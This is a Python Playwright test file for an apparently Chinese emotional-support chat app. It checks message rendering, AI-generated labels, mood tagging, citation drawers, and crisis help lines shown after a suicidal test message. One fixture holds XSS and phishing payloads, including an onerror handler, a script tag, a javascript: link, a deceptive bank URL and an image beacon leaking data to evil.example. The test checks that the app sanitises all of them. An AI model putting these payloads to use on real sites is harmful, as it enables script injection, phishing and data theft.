"""What a message shows: text that cannot act, where it comes from, and help where it is needed."""

import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Locator, Page, expect

from tests.e2e.browser import PHONE, Look, scrolls_sideways, serious
from tests.e2e.web.support import OWNER, PASSWORD, OpenApp, Visitor
from tests.servers.model_server import ModelServer

DANGER = "我不想活了，已经写好遗书"
LOOKS = (Look(), Look(375, 720, "dark"), Look(375, 720, language="en"))
HOSTILE = """看 <img src=x onerror="window.acted = 1"><script>window.acted = 2</script>

[点我](javascript:window.acted=3) ![图](https://evil.example/x.png?said=secret)
[我的银行](https://bank.example@evil.example/) <iframe src="https://evil.example"></iframe>

[文件](data:text/html,<script>1</script>) 和 https://fine.example/a。就这样。

<a href="https://evil.example" style="position:fixed;inset:0">盖住</a>"""
TITLE = "员工手册 2026 年修订版（人力资源部发布，适用于全体员工）"
HANDBOOK = {
    TITLE: "病假要有证明。\n\n年假要提前三个工作日申请。\n\n迟到三次记一次缺勤。",
    "问答": "年假要提前三个工作日申请，谁来批？部门主管批。",
}
RICH = """| 时间 | 做什么 |
| --- | --- |
| 早上 | 散步 |

```python
print("慢慢来")
```

公式 $e^{i\\pi}+1=0$，花了 $5 和 $10。"""


@pytest.fixture(autouse=True)
def calm_model(model: ModelServer) -> Iterator[None]:
    yield
    model.reset()


def talk_of(said: dict[str, Any]) -> str:
    return f"/talk/{said['conversation_id']}"


def reply(page: Page) -> Locator:
    return page.get_by_role("article", name=re.compile("^暖心")).last


def banner(page: Page) -> Locator:
    return page.get_by_role("region", name=re.compile("安全|一个人扛|safety|alone"))


def mood_hint(page: Page) -> Locator:
    return page.get_by_title("不太对？点一下改")


def face(page: Page, name: str) -> Locator:
    return page.get_by_role("radio", name=name)


def records(visitor: Visitor) -> list[dict[str, Any]]:
    return list(visitor.api.get("/v1/moods").json()["items"])


def test_hostile_words_neither_act_nor_ask_anybody(
    model: ModelServer, visitor: Visitor, open_app: OpenApp
) -> None:
    model.reply = HOSTILE
    said = visitor.say("你好")
    with open_app(talk_of(said), visitor) as (page, _):
        expect(reply(page)).to_contain_text("就这样")
        assert page.evaluate("window.acted") is None
        assert reply(page).locator("img, script, iframe, [style*=fixed]").count() == 0
        links = reply(page).get_by_role("link")
        expect(links).to_have_count(3)
        hrefs = [one.get_attribute("href") for one in links.all()]
        assert hrefs == [
            "https://evil.example/x.png?said=secret",
            "https://evil.example/",
            "https://fine.example/a",
        ]
        expect(links.nth(1)).to_have_text("我的银行 (evil.example)")
        for link in links.all():
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
            assert link.get_attribute("target") == "_blank"


def test_the_persons_own_words_stay_as_they_were_typed(visitor: Visitor, open_app: OpenApp) -> None:
    said = visitor.say("**不是**粗体\n<b>也不是</b> \u202eexe.cod")
    with open_app(talk_of(said), visitor) as (page, _):
        own = page.get_by_role("article", name=re.compile("^你")).first
        expect(own).to_contain_text("**不是**粗体")
        expect(own).to_contain_text("<b>也不是</b> exe.cod")
        assert own.locator("strong, b").count() == 0


def test_code_is_copied_and_formulas_are_fetched_only_where_there_are_any(
    model: ModelServer, visitor: Visitor, open_app: OpenApp
) -> None:
    plain = visitor.say("你好")
    model.reply = RICH
    rich = visitor.say("说点复杂的")
    with open_app(talk_of(plain), visitor) as (page, _):
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.reload()
        expect(reply(page)).to_contain_text("我在听")
        page.wait_for_load_state("networkidle")
        assert not [one for one in asked if "Formula" in one or "KaTeX" in one]
        page.goto(talk_of(rich))
        expect(reply(page).locator(".katex").first).to_be_visible()
        assert [one for one in asked if re.search(r"KaTeX.*\.woff2", one)]
        assert not [one for one in asked if re.search(r"\.(woff|ttf)$", one)]
        expect(reply(page)).to_contain_text("花了 $5 和 $10。")
        expect(reply(page).get_by_role("columnheader", name="做什么")).to_be_visible()
        reply(page).get_by_role("button", name="复制代码").click()
        expect(reply(page).get_by_text("已复制")).to_be_visible()
        assert page.evaluate("navigator.clipboard.readText()") == 'print("慢慢来")'


def test_marks_without_end_are_shown_as_they_are(
    model: ModelServer, visitor: Visitor, open_app: OpenApp
) -> None:
    model.reply = "*a_" * 4_000
    said = visitor.say("说很多")
    with open_app(talk_of(said), visitor) as (page, _):
        expect(reply(page)).to_contain_text("*a_*a_*a_")
        assert reply(page).locator("em, strong").count() == 0


def table(columns: int, rows: int) -> str:
    lines = [["头"] * columns, ["-"] * columns, *[["两个字"] * columns] * rows]
    return "\n".join(f"|{'|'.join(line)}|" for line in lines)


def test_a_wide_table_scrolls_within_itself_by_keyboard(
    model: ModelServer, visitor: Visitor, open_app: OpenApp
) -> None:
    model.reply = table(40, 20)
    said = visitor.say("列个表")
    with open_app(talk_of(said), visitor, PHONE) as (page, _):
        frame = reply(page).get_by_role("group", name="表格")
        expect(frame.get_by_role("columnheader")).to_have_count(40)
        frame.focus()
        page.keyboard.press("ArrowRight")
        page.wait_for_function("() => document.activeElement.scrollLeft > 0")
        assert not scrolls_sideways(page)
        assert serious(page) == []


def test_a_table_beyond_what_a_page_takes_is_shown_as_text(
    model: ModelServer, visitor: Visitor, open_app: OpenApp
) -> None:
    model.reply = table(500, 6)
    said = visitor.say("列个大表")
    with open_app(talk_of(said), visitor) as (page, _):
        expect(reply(page)).to_contain_text("|两个字|两个字|")
        assert reply(page).get_by_role("table").count() == 0


def test_a_reply_says_that_a_machine_wrote_it(visitor: Visitor, open_app: OpenApp) -> None:
    said = visitor.say("你好")
    with open_app(talk_of(said), visitor) as (page, _):
        expect(reply(page).get_by_text("AI 生成")).to_be_visible()
        notice = said["message"]["notices"][0]["text"]
        expect(reply(page).get_by_label("提示")).to_have_text(notice)


def test_why_names_memories_and_forgets_them(visitor: Visitor, open_app: OpenApp) -> None:
    visitor.say("我的猫叫年糕，它上周走了")
    said = visitor.say("你还记得我的猫吗？")
    with open_app(talk_of(said), visitor) as (page, _):
        reply(page).get_by_role("button", name="为什么这么说").click()
        drawer = page.get_by_role("dialog", name="为什么这么说")
        expect(drawer.get_by_text("年糕").first).to_be_visible()
        drawer.get_by_role("button", name="忘掉这条").first.click()
        page.get_by_role("tooltip").get_by_role("button", name="忘掉这条").click()
        expect(drawer.get_by_text("这条记忆已经忘掉了").first).to_be_visible()
        expect(drawer.get_by_role("link", name="看看全部记忆")).to_have_attribute(
            "href", "/memories"
        )
        page.keyboard.press("Escape")
        expect(drawer).to_be_hidden()


@pytest.mark.parametrize("look", LOOKS, ids=lambda look: look.name)
def test_help_lines_stay_in_view_and_can_be_called(
    visitor: Visitor, open_app: OpenApp, look: Look
) -> None:
    visitor.api.patch("/v1/me", json={"language": look.language})
    said = visitor.say(DANGER)
    with open_app(talk_of(said), visitor, look) as (page, _):
        expect(banner(page).get_by_role("alert").get_by_role("heading")).to_be_visible()
        calls = banner(page).get_by_role("link")
        expect(calls.first).to_have_attribute("href", "tel:120")
        assert {one.get_attribute("href") for one in calls.all()} >= {"tel:110", "tel:12356"}
        for call in calls.all():
            place = call.bounding_box()
            assert place is not None
            assert place["height"] >= 44
        page.get_by_role("log").evaluate("list => list.scrollTo(0, 100000)")
        expect(calls.first).to_be_in_viewport()
        expect(page.get_by_role("textbox").last).to_be_in_viewport()
        assert not scrolls_sideways(page)
        assert serious(page) == []
        banner(page).get_by_role("button").click()
        expect(calls).to_have_count(1)
        expect(calls.first).to_be_in_viewport()
        page.reload()
        expect(calls.first).to_be_in_viewport()


def test_help_lines_leave_after_the_turns_of_aftercare(visitor: Visitor, open_app: OpenApp) -> None:
    said = visitor.say(DANGER)
    for text in ("我现在安全了，在家", "嗯，妈妈在旁边"):
        visitor.say(text, conversation_id=said["conversation_id"])
    with open_app(talk_of(said), visitor) as (page, _):
        expect(banner(page)).to_be_visible()
        for text in ("今天吃了面", "天气不错", "晚上看了部电影", "准备睡了"):
            visitor.say(text, conversation_id=said["conversation_id"])
        page.reload()
        expect(page.get_by_text("准备睡了")).to_be_visible()
        expect(banner(page)).to_have_count(0)


def test_a_read_mood_is_put_right_with_one_tap_and_taken_back(
    visitor: Visitor, open_app: OpenApp
) -> None:
    said = visitor.say("最近好难过，睡不着")
    (read,) = records(visitor)
    with open_app(talk_of(said), visitor) as (page, _):
        expect(page.get_by_role("radiogroup", name="听起来像难过")).to_be_visible()
        face(page, "还不错").check(force=True)
        expect(page.get_by_text("记下了：还不错")).to_be_visible()
        (put_right,) = records(visitor)
        assert (put_right["valence"], put_right["label"]) == (0.4, "joy")
        page.get_by_role("button", name="撤销").click()
        expect(page.get_by_text("已撤销")).to_be_visible()
        (back,) = records(visitor)
        assert back["label"] == read["label"]
        assert back["valence"] == pytest.approx(read["valence"], abs=0.01)


def test_a_mood_is_picked_with_the_keyboard_and_is_there_the_next_time(
    visitor: Visitor, open_app: OpenApp
) -> None:
    said = visitor.say("最近好难过，睡不着")
    with open_app(talk_of(said), visitor) as (page, _):
        face(page, "很难受").focus()
        page.keyboard.press("ArrowRight")
        expect(page.get_by_text("记下了：不太好")).to_be_visible()
        page.reload()
        expect(face(page, "不太好")).to_be_checked()


def test_only_the_latest_words_ask_at_once_how_it_felt_to_say_them(
    visitor: Visitor, open_app: OpenApp
) -> None:
    said = visitor.say("最近好难过，睡不着")
    with open_app(talk_of(said), visitor) as (page, _):
        expect(page.get_by_role("radiogroup")).to_have_count(1)
        expect(mood_hint(page)).to_have_count(0)
        page.get_by_role("textbox", name="想说的话").fill("还是很难过")
        page.keyboard.press("Enter")
        expect(page.get_by_text("AI 生成")).to_have_count(2)
        expect(page.get_by_role("radiogroup")).to_have_count(1)
        expect(mood_hint(page)).to_have_count(1)
        mood_hint(page).click()
        expect(page.get_by_role("radiogroup")).to_have_count(2)


def test_where_there_is_danger_or_no_trace_is_left_nobody_is_asked_at_once(
    visitor: Visitor, open_app: OpenApp
) -> None:
    danger = visitor.say(DANGER)
    secret = visitor.say("最近好难过，睡不着", incognito=True)
    with open_app(talk_of(danger), visitor) as (page, _):
        expect(mood_hint(page)).to_be_visible()
        expect(page.get_by_role("radiogroup")).to_have_count(0)
        page.goto(talk_of(secret))
        expect(page.get_by_text("AI 生成")).to_be_visible()
        expect(page.get_by_role("radiogroup").or_(mood_hint(page))).to_have_count(0)


def test_a_mood_that_could_not_be_kept_stays_picked(visitor: Visitor, open_app: OpenApp) -> None:
    said = visitor.say("最近好难过，睡不着")
    with open_app(talk_of(said), visitor) as (page, watched):
        watched.allow("ERR_INTERNET_DISCONNECTED")
        expect(face(page, "很难受")).to_be_visible()
        page.context.set_offline(True)
        face(page, "很难受").check(force=True)
        own = page.get_by_role("article", name=re.compile("^你"))
        expect(own.get_by_text("连不上服务器")).to_be_visible()
        expect(face(page, "很难受")).to_be_checked()
        page.context.set_offline(False)
        own.get_by_role("button", name="再试一次").click()
        expect(page.get_by_text("记下了：很难受")).to_be_visible()
        assert records(visitor)[0]["valence"] == -0.8


def agent_with(app_url: str, papers: dict[str, str]) -> str:
    """The id of an agent that goes by them."""
    with httpx.Client(base_url=app_url, timeout=30) as owner:
        signed_in = owner.post("/v1/auth/login", json={"email": OWNER, "password": PASSWORD})
        signed_in.raise_for_status()
        owner.headers["authorization"] = f"Bearer {signed_in.json()['access_token']}"
        dataset = owner.post("/v1/datasets", json={"name": "员工手册"}).json()["id"]
        documents = f"/v1/datasets/{dataset}/documents"
        for title, text in papers.items():
            document = owner.post(documents, json={"title": title, "text": text}).json()["id"]
            while owner.get(f"{documents}/{document}").json()["status"] not in ("ready", "failed"):
                pass
        agent = {"name": "小事务", "persona": "你是人事助手。", "dataset_ids": [dataset]}
        return str(owner.post("/v1/agents", json=agent).json()["id"])


@pytest.fixture(scope="module")
def clerk(app_url: str) -> str:
    return agent_with(app_url, {TITLE: HANDBOOK[TITLE]})


@pytest.mark.parametrize("look", [Look(), PHONE], ids=lambda look: look.name)
def test_a_mark_in_the_text_opens_what_it_rests_on(
    model: ModelServer, visitor: Visitor, open_app: OpenApp, clerk: str, look: Look
) -> None:
    model.reply = "要提前三个工作日申请[1]。"
    said = visitor.say("年假要提前多久申请？", agent_id=clerk)
    assert said["message"]["citations"]
    with open_app(talk_of(said), visitor, look) as (page, _):
        reply(page).get_by_role("button", name="来源 1", exact=True).click()
        drawer = page.get_by_role("dialog", name=re.compile("来源 1"))
        expect(drawer.locator("mark")).to_have_text("年假要提前三个工作日申请。")
        expect(drawer).to_contain_text("病假要有证明。")
        assert serious(page) == []
        page.keyboard.press("Escape")
        expect(drawer).to_be_hidden()
        chip = reply(page).get_by_role("button", name="来源 1：员工手册")
        place = chip.bounding_box()
        assert place is not None
        assert place["x"] + place["width"] <= look.width
        chip.click()
        expect(drawer.locator("mark")).to_be_visible()


def test_each_mark_opens_its_own_source(
    model: ModelServer, visitor: Visitor, open_app: OpenApp, app_url: str
) -> None:
    model.reply = "要提前三个工作日申请[1]，年假的申请有人批[2]。"
    said = visitor.say("年假要提前多久申请？", agent_id=agent_with(app_url, HANDBOOK))
    titles = [one["title"] for one in said["message"]["citations"]]
    assert sorted(titles) == sorted(HANDBOOK)
    with open_app(talk_of(said), visitor) as (page, _):
        for number, title in enumerate(titles, 1):
            reply(page).get_by_role("button", name=f"来源 {number}", exact=True).click()
            drawer = page.get_by_role("dialog", name=re.compile(f"来源 {number}"))
            expect(drawer).to_contain_text("证明" if title == TITLE else "部门主管")
            page.keyboard.press("Escape")
            expect(drawer).to_be_hidden()
